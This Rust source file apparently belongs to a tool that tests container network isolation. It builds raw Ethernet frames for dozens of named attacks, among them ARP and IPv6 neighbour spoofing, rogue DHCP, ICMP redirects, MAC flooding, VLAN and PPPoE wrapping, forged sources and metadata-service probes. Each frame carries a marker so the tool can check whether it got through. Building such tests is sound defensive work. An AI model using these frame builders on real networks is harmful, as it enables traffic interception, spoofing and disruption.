//! The attacks: to add one, add a line to the table of those who shall not receive it.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

use hakone_base::MacAddr;

use crate::{
    Mark, Scene,
    frame::{
        ALL, ICMP, ICMP6, PORT, TYPE_ARP, TYPE_V4, TYPE_V6, UDP, arp, ether, icmp, icmp6, udp, v4,
        v6,
    },
    scene::Person,
};

/// An address far away, of those that stand for others in documents.
const FAR: Ipv4Addr = Ipv4Addr::new(198, 51, 100, 99);
/// An address that is nobody's here.
const FORGED: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 7);
const METADATA: Ipv4Addr = Ipv4Addr::new(169, 254, 169, 254);
const ALL_NODES: Ipv6Addr = Ipv6Addr::new(0xff02, 0, 0, 0, 0, 0, 0, 1);
const NOBODY: MacAddr = MacAddr::new([2, 0, 0, 0, 0, 0x77]);
/// Frames of a flood: enough to see whether any passes, too few to harm a bridge where they do.
const FLOOD: u8 = 64;

/// An attack.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Attack {
    /// Its name.
    pub name: &'static str,
    /// What it tries, in a sentence.
    pub tries: &'static str,
    /// What the attacker sends.
    pub frames: Vec<Vec<u8>>,
}

/// What is sent between two.
struct Table {
    scene: Scene,
    mark: Mark,
    attacks: Vec<Attack>,
}

/// Lies to a neighbour that one may otherwise talk to.
#[must_use]
pub fn members(scene: &Scene, mark: Mark) -> Vec<Attack> {
    let mut table = Table::new(scene, mark);
    table.arp();
    table.sources();
    table.kinds();
    table.services();
    table.discovery();
    table.hidden();
    table.attacks
}

/// Anything at all to a neighbour on a network whose members may not talk (`icc=false`).
#[must_use]
pub fn isolated(scene: &Scene, mark: Mark) -> Vec<Attack> {
    let mut table = Table::new(scene, mark);
    let Scene {
        me,
        victim,
        gateway,
        ..
    } = *scene;
    table.add(
        "icc_udp",
        "a datagram to a neighbour without icc",
        |t, m| vec![t.datagram(me.v4, victim.v4, victim.mac, m)],
    );
    table.add(
        "icc_udp_by_gateway",
        "the same by way of the gateway",
        |t, m| vec![t.datagram(me.v4, victim.v4, gateway.mac, m)],
    );
    table.add(
        "icc_arp",
        "data in ARP frames to a neighbour without icc",
        |_, m| {
            let ask = arp(1, (me.mac, me.v4), victim.v4, m);
            vec![ether(victim.mac, me.mac, TYPE_ARP, &ask)]
        },
    );
    table.add(
        "icc_vlan_0",
        "a datagram behind a priority tag (VLAN 0)",
        |t, m| vec![tagged(&t.datagram(me.v4, victim.v4, victim.mac, m), 0)],
    );
    table.add("icc_pppoe", "IPv4 inside a PPPoE session", |t, m| {
        let inner = t.datagram(me.v4, victim.v4, victim.mac, m);
        vec![pppoe(&inner, victim.mac, me.mac)]
    });
    table.add("icc_ethertype", "a frame of an unknown kind", |_, m| {
        vec![ether(victim.mac, me.mac, 0x88b5, m)]
    });
    if let (Some(own), Some(other)) = (me.v6, victim.v6) {
        table.add("icc_ipv6", "a datagram over IPv6", |t, m| {
            vec![t.datagram6(own, other, victim.mac, m)]
        });
        table.add(
            "icc_ipv6_link_local",
            "the same by link-local addresses",
            |t, m| vec![t.datagram6(me.link_local(), victim.link_local(), victim.mac, m)],
        );
    }
    table.attacks
}

/// To a container of another network, by way of the host.
#[must_use]
pub fn beyond(scene: &Scene, mark: Mark) -> Vec<Attack> {
    let mut table = Table::new(scene, mark);
    let Scene {
        me,
        gateway,
        stranger,
        ..
    } = *scene;
    table.add(
        "cross_network_udp",
        "a datagram to a container of another network",
        |t, m| vec![t.datagram(me.v4, stranger.v4, gateway.mac, m)],
    );
    table.add(
        "cross_network_direct",
        "the same, by the other's Ethernet address",
        |t, m| vec![t.datagram(me.v4, stranger.v4, stranger.mac, m)],
    );
    table.add(
        "cross_network_forged",
        "the same, as if from its gateway",
        |t, m| vec![t.datagram(gateway.v4, stranger.v4, gateway.mac, m)],
    );
    table.add(
        "cross_network_broadcast",
        "a broadcast for everybody",
        |t, m| vec![t.datagram(me.v4, Ipv4Addr::BROADCAST, ALL, m)],
    );
    table.add(
        "cross_network_ping",
        "a ping of another network's container",
        |_, m| {
            let ping = icmp(8, 0, &[&[0, 1, 0, 1][..], m].concat());
            let packet = v4(me.v4, stranger.v4, ICMP, &[], &ping);
            vec![ether(gateway.mac, me.mac, TYPE_V4, &packet)]
        },
    );
    if let (Some(own), Some(other)) = (me.v6, stranger.v6) {
        table.add(
            "cross_network_ipv6",
            "a datagram over IPv6 to another network",
            |t, m| vec![t.datagram6(own, other, gateway.mac, m)],
        );
    }
    table.attacks
}

/// What must not leave the host.
#[must_use]
pub fn outward(scene: &Scene, mark: Mark) -> Vec<Attack> {
    let mut table = Table::new(scene, mark);
    let Scene {
        me,
        victim,
        gateway,
        ..
    } = *scene;
    table.add(
        "egress_forged_public",
        "a datagram to the outside with a forged public source",
        |t, m| vec![t.datagram(FORGED, FAR, gateway.mac, m)],
    );
    table.add(
        "egress_forged_neighbour",
        "a datagram to the outside in a neighbour's name",
        |t, m| vec![t.datagram(victim.v4, FAR, gateway.mac, m)],
    );
    table.add(
        "metadata_service",
        "a question to the machine's metadata service",
        |t, m| vec![t.datagram(me.v4, METADATA, gateway.mac, m)],
    );
    table.add(
        "egress_source_route",
        "a datagram that chooses its own route",
        |_, m| {
            let route = [&[131, 7, 4][..], &FAR.octets(), &[0]].concat();
            let datagram = udp((me.v4.into(), FAR.into()), (4000, PORT), m);
            let packet = v4(me.v4, FAR, UDP, &route, &datagram);
            vec![ether(gateway.mac, me.mac, TYPE_V4, &packet)]
        },
    );
    table.attacks
}

/// An honest datagram that must arrive.
#[must_use]
pub fn honest(from: Person, to: IpAddr, by: MacAddr, mark: &[u8]) -> Vec<u8> {
    match (to, from.v6) {
        (IpAddr::V4(to), _) => {
            let datagram = udp((from.v4.into(), to.into()), (4000, PORT), mark);
            ether(by, from.mac, TYPE_V4, &v4(from.v4, to, UDP, &[], &datagram))
        }
        (IpAddr::V6(to), own) => {
            let own = own.unwrap_or(from.link_local());
            let datagram = udp((own.into(), to.into()), (4000, PORT), mark);
            ether(by, from.mac, TYPE_V6, &v6(own, to, UDP, &datagram))
        }
    }
}

impl Table {
    const fn new(scene: &Scene, mark: Mark) -> Self {
        Self {
            scene: *scene,
            mark,
            attacks: Vec::new(),
        }
    }

    fn add(
        &mut self,
        name: &'static str,
        tries: &'static str,
        frames: impl FnOnce(&Self, &[u8]) -> Vec<Vec<u8>>,
    ) {
        let frames = frames(self, &self.mark.of(name));
        self.attacks.push(Attack {
            name,
            tries,
            frames,
        });
    }

    fn arp(&mut self) {
        let Scene {
            me,
            victim,
            gateway,
            unused,
            ..
        } = self.scene;
        let to_victim = move |operation, claim, target, m: &[u8]| {
            vec![ether(
                victim.mac,
                me.mac,
                TYPE_ARP,
                &arp(operation, claim, target, m),
            )]
        };
        self.add(
            "arp_spoof_gateway",
            "takes the gateway's address by a forged ARP reply",
            |_, m| to_victim(2, (me.mac, gateway.v4), victim.v4, m),
        );
        self.add(
            "arp_spoof_by_request",
            "the same by a forged ARP request",
            |_, m| to_victim(1, (me.mac, gateway.v4), victim.v4, m),
        );
        self.add(
            "arp_spoof_peer",
            "takes its victim's own address",
            |_, m| {
                let claim = arp(1, (me.mac, victim.v4), victim.v4, m);
                vec![ether(ALL, me.mac, TYPE_ARP, &claim)]
            },
        );
        self.add(
            "arp_blackhole",
            "leads the gateway's address to nobody",
            |_, m| to_victim(2, (NOBODY, gateway.v4), victim.v4, m),
        );
        self.add(
            "arp_invented",
            "an ARP request from an address that nobody has",
            |_, m| to_victim(1, (me.mac, unused), victim.v4, m),
        );
        self.add(
            "arp_foreign_ether",
            "an ARP reply in another's Ethernet address",
            |_, m| to_victim(2, (NOBODY, me.v4), victim.v4, m),
        );
    }

    fn sources(&mut self) {
        let Scene {
            me,
            victim,
            gateway,
            unused,
            ..
        } = self.scene;
        for (name, tries, source) in [
            (
                "ip_spoof_gateway",
                "a datagram in the gateway's name",
                gateway.v4,
            ),
            (
                "ip_spoof_unassigned",
                "a datagram from an address that nobody has",
                unused,
            ),
            (
                "ip_spoof_public",
                "a datagram from a public address",
                FORGED,
            ),
            (
                "ip_spoof_victim",
                "a datagram in its receiver's own name",
                victim.v4,
            ),
        ] {
            self.add(name, tries, |t, m| {
                vec![t.datagram(source, victim.v4, victim.mac, m)]
            });
        }
        self.add(
            "mac_steal",
            "a datagram in another's Ethernet address",
            |t, m| {
                let frame = t.datagram(me.v4, victim.v4, victim.mac, m);
                vec![from_ether(frame, NOBODY)]
            },
        );
        self.add(
            "mac_flood",
            "many Ethernet addresses, to fill the bridge's table",
            |t, m| {
                let frame = t.datagram(me.v4, victim.v4, victim.mac, m);
                let invented = |n| MacAddr::new([2, 0x77, 0, 0, 1, n]);
                (0..FLOOD)
                    .map(|n| from_ether(frame.clone(), invented(n)))
                    .collect()
            },
        );
    }

    fn kinds(&mut self) {
        let Scene { me, victim, .. } = self.scene;
        self.add("vlan_tag", "a datagram behind a VLAN tag", |t, m| {
            vec![tagged(&t.datagram(me.v4, victim.v4, victim.mac, m), 7)]
        });
        self.add(
            "vlan_0",
            "a datagram behind a priority tag (VLAN 0)",
            |t, m| vec![tagged(&t.datagram(me.v4, victim.v4, victim.mac, m), 0)],
        );
        self.add("pppoe", "IPv4 inside a PPPoE session", |t, m| {
            let inner = t.datagram(me.v4, victim.v4, victim.mac, m);
            vec![pppoe(&inner, victim.mac, me.mac)]
        });
        self.add("ethertype", "a frame of an unknown kind", |_, m| {
            vec![ether(victim.mac, me.mac, 0x88b5, m)]
        });
        self.add(
            "spanning_tree",
            "a bridge's own protocol (802.3)",
            |_, m| {
                let length = u16::try_from(m.len() + 3).unwrap_or(64);
                vec![ether(
                    victim.mac,
                    me.mac,
                    length,
                    &[&[0x42, 0x42, 3][..], m].concat(),
                )]
            },
        );
        self.add(
            "ip_options",
            "a packet that chooses its own route",
            |_, m| {
                let route = [&[131, 7, 4][..], &victim.v4.octets(), &[0]].concat();
                let datagram = udp((me.v4.into(), victim.v4.into()), (4000, PORT), m);
                let packet = v4(me.v4, victim.v4, UDP, &route, &datagram);
                vec![ether(victim.mac, me.mac, TYPE_V4, &packet)]
            },
        );
    }

    fn services(&mut self) {
        let Scene {
            me,
            victim,
            gateway,
            ..
        } = self.scene;
        self.add("rogue_dhcp", "an answer of a DHCP server", |_, m| {
            let datagram = udp((me.v4.into(), victim.v4.into()), (67, 68), m);
            let packet = v4(me.v4, victim.v4, UDP, &[], &datagram);
            vec![ether(victim.mac, me.mac, TYPE_V4, &packet)]
        });
        self.add(
            "mdns_poison",
            "an answer to a question of multicast DNS",
            |_, m| {
                let group = Ipv4Addr::new(224, 0, 0, 251);
                let datagram = udp((me.v4.into(), group.into()), (5353, 5353), m);
                let packet = v4(me.v4, group, UDP, &[], &datagram);
                let to = MacAddr::new([1, 0, 0x5e, 0, 0, 0xfb]);
                vec![ether(to, me.mac, TYPE_V4, &packet)]
            },
        );
        self.add(
            "icmp_redirect",
            "tells the victim another way to the outside",
            |_, m| {
                let inner = v4(victim.v4, FAR, UDP, &[], &[0; 8]);
                let body = [&me.v4.octets()[..], &inner, m].concat();
                let packet = v4(me.v4, victim.v4, ICMP, &[], &icmp(5, 1, &body));
                vec![ether(victim.mac, me.mac, TYPE_V4, &packet)]
            },
        );
        self.add(
            "igmp_query",
            "asks who listens, in the bridge's place",
            |_, m| {
                let group = Ipv4Addr::new(224, 0, 0, 1);
                let packet = v4(me.v4, group, 2, &[0x94, 4, 0, 0], &icmp(0x11, 100, m));
                vec![ether(
                    MacAddr::new([1, 0, 0x5e, 0, 0, 1]),
                    me.mac,
                    TYPE_V4,
                    &packet,
                )]
            },
        );
        self.add(
            "broadcast_forged",
            "a broadcast in the gateway's name",
            |t, m| vec![t.datagram(gateway.v4, Ipv4Addr::BROADCAST, ALL, m)],
        );
    }

    fn discovery(&mut self) {
        let Scene {
            me,
            victim,
            gateway,
            ..
        } = self.scene;
        let (Some(own), Some(other), Some(router)) = (me.v6, victim.v6, gateway.v6) else {
            return;
        };
        let (link, to) = (me.link_local(), victim.mac);
        let all = MacAddr::new([0x33, 0x33, 0, 0, 0, 1]);
        self.add("router_advertisement", "says to be the router", |_, m| {
            vec![discovery(
                link,
                ALL_NODES,
                134,
                &router_body(m),
                (all, me.mac),
            )]
        });
        self.add(
            "router_redirect",
            "tells the victim another way over IPv6",
            |_, m| {
                let body = [&[0; 4][..], &link.octets(), &router.octets(), m].concat();
                vec![discovery(link, other, 137, &body, (to, me.mac))]
            },
        );
        self.add(
            "neighbour_spoof_gateway",
            "takes the gateway's address by an advertisement",
            |_, m| {
                vec![discovery(
                    own,
                    other,
                    136,
                    &advertisement(router, me.mac, m),
                    (to, me.mac),
                )]
            },
        );
        self.add(
            "neighbour_spoof_peer",
            "takes its victim's address by an advertisement",
            |_, m| {
                vec![discovery(
                    own,
                    ALL_NODES,
                    136,
                    &advertisement(other, me.mac, m),
                    (all, me.mac),
                )]
            },
        );
    }

    /// What hides behind IPv6, and who hands out leases over it.
    fn hidden(&mut self) {
        let Scene {
            me,
            victim,
            gateway,
            ..
        } = self.scene;
        let (Some(own), Some(other), Some(router)) = (me.v6, victim.v6, gateway.v6) else {
            return;
        };
        let (link, to) = (me.link_local(), victim.mac);
        let all = MacAddr::new([0x33, 0x33, 0, 0, 0, 1]);
        self.add(
            "neighbour_forged_source",
            "asks for a neighbour in another's name",
            |_, m| {
                let body = [&[0; 4][..], &other.octets(), &option(1, me.mac), m].concat();
                vec![discovery(router, other, 135, &body, (to, me.mac))]
            },
        );
        self.add(
            "ipv6_spoof",
            "a datagram over IPv6 in the gateway's name",
            |t, m| vec![t.datagram6(router, other, to, m)],
        );
        self.add("rogue_dhcpv6", "an answer of a DHCPv6 server", |_, m| {
            let datagram = udp((own.into(), other.into()), (547, 546), m);
            vec![ether(to, me.mac, TYPE_V6, &v6(own, other, UDP, &datagram))]
        });
        self.add(
            "hidden_advertisement",
            "says to be the router, behind an extension header",
            |_, m| {
                let inner = icmp6(link, ALL_NODES, 134, &router_body(m));
                let packet = [&[ICMP6, 0, 1, 4, 0, 0, 0, 0][..], &inner].concat();
                vec![ether(
                    all,
                    me.mac,
                    TYPE_V6,
                    &v6(link, ALL_NODES, 0, &packet),
                )]
            },
        );
        self.add(
            "torn_advertisement",
            "says to be the router, in a fragment",
            |_, m| {
                let inner = icmp6(link, ALL_NODES, 134, &router_body(m));
                let packet = [&[ICMP6, 0, 0, 1, 0, 0, 0, 9][..], &inner].concat();
                vec![ether(
                    all,
                    me.mac,
                    TYPE_V6,
                    &v6(link, ALL_NODES, 44, &packet),
                )]
            },
        );
    }

    fn datagram(&self, from: Ipv4Addr, to: Ipv4Addr, by: MacAddr, mark: &[u8]) -> Vec<u8> {
        let datagram = udp((from.into(), to.into()), (4000, PORT), mark);
        ether(
            by,
            self.scene.me.mac,
            TYPE_V4,
            &v4(from, to, UDP, &[], &datagram),
        )
    }

    fn datagram6(&self, from: Ipv6Addr, to: Ipv6Addr, by: MacAddr, mark: &[u8]) -> Vec<u8> {
        let datagram = udp((from.into(), to.into()), (4000, PORT), mark);
        ether(
            by,
            self.scene.me.mac,
            TYPE_V6,
            &v6(from, to, UDP, &datagram),
        )
    }
}

fn discovery(
    from: Ipv6Addr,
    to: Ipv6Addr,
    kind: u8,
    body: &[u8],
    (by, sender): (MacAddr, MacAddr),
) -> Vec<u8> {
    let packet = v6(from, to, ICMP6, &icmp6(from, to, kind, body));
    ether(by, sender, TYPE_V6, &packet)
}

/// A router that lives for half an hour and no prefix.
fn router_body(mark: &[u8]) -> Vec<u8> {
    [&[64, 0, 7, 8, 0, 0, 0, 0, 0, 0, 0, 0][..], mark].concat()
}

/// Solicited, and to override what is known.
fn advertisement(target: Ipv6Addr, mac: MacAddr, mark: &[u8]) -> Vec<u8> {
    [
        &[0x60, 0, 0, 0][..],
        &target.octets(),
        &option(2, mac),
        mark,
    ]
    .concat()
}

fn option(kind: u8, mac: MacAddr) -> [u8; 8] {
    let [a, b, c, d, e, f] = mac.octets();
    [kind, 1, a, b, c, d, e, f]
}

fn from_ether(mut frame: Vec<u8>, from: MacAddr) -> Vec<u8> {
    if let Some(place) = frame.get_mut(6..12) {
        place.copy_from_slice(&from.octets());
    }
    frame
}

fn tagged(frame: &[u8], vlan: u8) -> Vec<u8> {
    let (ends, rest) = frame.split_at_checked(12).unwrap_or_default();
    [ends, &[0x81, 0, 0, vlan], rest].concat()
}

fn pppoe(frame: &[u8], to: MacAddr, from: MacAddr) -> Vec<u8> {
    let packet = frame.get(14..).unwrap_or_default();
    let length = u16::try_from(packet.len() + 2)
        .unwrap_or(u16::MAX)
        .to_be_bytes();
    let session = [&[0x11, 0, 0, 1][..], &length, &[0, 0x21], packet].concat();
    ether(to, from, 0x8864, &session)
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::BTreeSet;

    fn person(number: u8) -> Person {
        Person {
            mac: MacAddr::new([2, 0x42, 0, 0, 0, number]),
            v4: Ipv4Addr::new(172, 18, 0, number),
            v6: Some(Ipv6Addr::new(0xfd00, 0, 0, 0, 0, 0, 0, number.into())),
        }
    }

    fn scene() -> Scene {
        Scene {
            me: person(2),
            victim: person(3),
            gateway: person(1),
            stranger: person(9),
            unused: Ipv4Addr::new(172, 18, 0, 200),
        }
    }

    fn all(scene: &Scene) -> Vec<Attack> {
        let mark = Mark(5);
        [
            members(scene, mark),
            isolated(scene, mark),
            beyond(scene, mark),
            outward(scene, mark),
        ]
        .concat()
    }

    #[test]
    fn every_frame_bears_the_mark_of_its_attack() {
        for attack in all(&scene()) {
            assert!(!attack.frames.is_empty());
            for frame in &attack.frames {
                assert_eq!(Mark(5).find(frame).as_deref(), Some(attack.name));
                assert!((60..1500).contains(&frame.len()), "{}", attack.name);
            }
        }
    }

    #[test]
    fn names_are_unique_and_there_are_many() {
        let attacks = all(&scene());
        let names: BTreeSet<_> = attacks.iter().map(|attack| attack.name).collect();
        assert_eq!(names.len(), attacks.len());
        assert!(attacks.len() >= 45, "{}", attacks.len());
    }

    #[test]
    fn without_ipv6_its_attacks_are_left_out() {
        let mut scene = scene();
        scene.me.v6 = None;
        let kind = |frame: &Vec<u8>| frame[12..14] == [0x86, 0xdd];
        assert!(
            !all(&scene)
                .iter()
                .flat_map(|attack| &attack.frames)
                .any(kind)
        );
    }
}
